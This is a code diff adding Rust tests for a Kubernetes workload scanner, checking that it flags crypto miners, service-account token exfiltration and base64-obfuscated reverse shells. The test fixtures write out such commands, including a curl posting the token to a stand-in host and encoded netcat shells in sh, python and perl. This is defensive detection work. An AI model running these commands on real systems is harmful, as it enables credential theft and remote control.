@@ -23,3 +23,59 @@ fn rules_of_commands_come_in_the_catalogue() {
         Some("cmd-in-hook-or-probe")
     );
 }
+
+/// Severity and floors of a Job with this container.
+fn judged(container: &str) -> (Severity, Vec<&'static str>) {
+    let container: serde_json::Value = serde_saphyr::from_str(container).unwrap();
+    let object = serde_json::from_value(serde_json::json!({"metadata": {"name": "j", "namespace": "n"},
+        "spec": {"template": {"spec": {"containers": [container]}}}}))
+    .unwrap();
+    let score = crate::assess::assess(crate::workload::Kind::Job, &object).score;
+    (score.severity, score.floors.iter().map(|floor| floor.id).collect())
+}
+
+#[test]
+fn a_miner_by_name_is_critical_and_one_by_options_is_not_raised() {
+    let known = judged("{name: a, command: [/x, --url, 'stratum+tcp://p.example.test:1']}");
+    assert_eq!(known, (Severity::Critical, vec!["known-miner"]));
+    let image = judged("{name: a, image: 'example.test/xmrig:6'}");
+    assert_eq!(image, (Severity::Critical, vec!["known-miner"]));
+    let (severity, floors) =
+        judged("{name: a, command: [/x, --donate-level, '1', -o, 'p.example.test:1', -u, W]}");
+    assert_eq!((severity, floors.len()), (Severity::High, 0));
+}
+
+#[test]
+fn a_token_that_is_sent_away_is_at_least_high() {
+    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
+    let (severity, floors) =
+        judged(&format!("{{name: a, command: [curl, -d, '@{token}', 'https://x.example.test']}}"));
+    assert_eq!((severity, floors), (Severity::High, vec!["token-sent-away"]));
+    let upload = format!("cat {token}; curl -F 'f=@/out/report' https://x.example.test");
+    let (_, floors) = judged(&format!("{{name: a, command: [sh, -c, \"{upload}\"]}}"));
+    assert_eq!(floors.len(), 0, "an ordinary file beside it is no theft of the token");
+}
+
+#[test]
+fn decoded_text_is_marked_and_judged_in_every_layer() {
+    for command in [
+        // A shell that reads a decoder.
+        r#"[sh, -c, "echo bmMgMTkyLjAuMi4xIDEgLWUgc2g= | base64 -d | sh"]"#,
+        // Code that decodes for a shell.
+        r#"[python3, -c, "import os,base64;os.system(base64.b64decode('bmMgMTkyLjAuMi4xIDEgLWUgc2g='))"]"#,
+        // Code that decodes code that calls a shell.
+        r#"[perl, -e, "eval decode_base64('c3lzdGVtKCJuYyAxOTIuMC4yLjEgMSAtZSBzaCIp')"]"#,
+    ] {
+        let container: serde_json::Value =
+            serde_saphyr::from_str(&format!("{{name: a, command: {command}}}")).unwrap();
+        let object = serde_json::from_value(
+            serde_json::json!({"spec": {"template": {"spec": {"containers": [container]}}}}),
+        )
+        .unwrap();
+        let findings = crate::assess::assess(crate::workload::Kind::Job, &object).findings;
+        let shell = findings.by_rule().find(|(rule, _)| rule.id == "cmd-reverse-shell");
+        let evidence = shell.and_then(|(_, hits)| hits.first()).map(|hit| hit.evidence.as_str().to_owned());
+        assert_eq!(evidence.as_deref(), Some("(decoded) nc 192.0.2.1 1 -e sh"), "{command}");
+        assert!(findings.by_rule().any(|(rule, _)| rule.id == "cmd-obfuscated"), "{command}");
+    }
+}
